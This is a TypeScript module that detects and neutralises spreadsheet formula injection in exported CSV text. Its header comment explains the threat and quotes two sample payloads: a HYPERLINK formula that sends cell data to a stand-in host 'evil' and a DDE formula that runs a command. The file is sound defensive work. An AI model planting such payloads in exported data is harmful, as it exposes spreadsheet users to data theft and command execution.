/**
 * Spreadsheet formula injection (CSV injection): a text cell that starts like a formula is evaluated by Excel,
 * LibreOffice Calc and Google Sheets when a user opens an exported file, e.g. `=HYPERLINK("https://evil/?"&A2)`
 * or the DDE payload `=cmd|'/c calc'!A0`. Quoting the CSV field does not stop this (OWASP "CSV Injection",
 * ASVS 5.0 requirement 1.2.10, CWE-1236; RELIABILITY.md §0 finding 8 and §2.3).
 *
 * papaparse's `escapeFormulae` is not enough: its pattern `/^[=+\-@\t\r].*$/` has no `s` flag, so
 * `=HYPERLINK(…)\nnote` slips through (mholt/PapaParse PR #1149, open), and it ignores ` =1+1` and `＝1+1`.
 * Here a text is formula-like when
 *
 * - its first character is a tab, CR, LF or NUL (OWASP and ASVS list these as triggers on their own), or
 * - after any leading whitespace, control or invisible format characters (Unicode White_Space, Cc, Cf: spaces,
 *   NBSP, U+3000, zero-width space, BOM…), the next character is `=`, `+`, `-` or `@`, or a compatibility
 *   variant of one: anything whose NFKC form starts with one of them. That covers the fullwidth `＝＋－＠`
 *   that Japanese and Chinese input methods type, and the small and superscript forms (`﹦`, `⁺`…). Whether
 *   each spreadsheet evaluates those variants is not established, so they are treated as if it did: a
 *   needless apostrophe costs little, an evaluated formula a lot.
 *
 * Only the start of the text counts, however many lines follow: a spreadsheet reads a quoted multi-line field
 * as one cell, which starts where the text starts (`note\n=1+1` is a note, `=1+1\nnote` is a formula).
 *
 * This applies to text only. A value that SQLite stores as a number (`-5`, `-0.25`) is written as a number by
 * the exporters and stays numeric; the *text* `-5` (e.g. imported into a TEXT column) is text in the database
 * and is neutralised like any other text.
 */

const triggersAtStart = new Set(['\t', '\r', '\n', '\0']);
const formulaStarts = new Set(['=', '+', '-', '@']);
const leadingIgnorable = /^[\p{White_Space}\p{Cc}\p{Cf}]*(.)/su;

export function isFormulaLike(text: string): boolean {
  const first = text.charCodeAt(0);
  // Fast path for the common case, a printable ASCII first character (exports can have millions of cells).
  if (first > 0x20 && first < 0x7f) return formulaStarts.has(text[0]);
  if (triggersAtStart.has(text[0])) return true;
  const next = leadingIgnorable.exec(text)?.[1];
  return next !== undefined && formulaStarts.has(next.normalize('NFKC')[0]);
}

/**
 * Prefixes a formula-like text with `'`, which spreadsheets show as text instead of evaluating; other texts
 * are returned unchanged. A CSV writer must also quote the field (`toCsv` does).
 */
export function neutralizeFormula(text: string): string {
  return isFormulaLike(text) ? `'${text}` : text;
}
